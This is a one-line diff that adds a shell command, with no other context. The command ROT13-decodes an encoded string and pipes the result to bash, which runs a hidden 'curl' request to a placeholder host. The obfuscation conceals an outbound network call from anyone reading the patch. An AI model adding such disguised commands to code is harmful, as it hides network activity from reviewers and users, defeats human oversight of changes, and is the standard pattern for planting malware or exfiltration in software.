@@ -1,0 +1,1 @@
+echo 'phey uggc://k' | tr 'a-zA-Z' 'n-za-mN-ZA-M' | bash
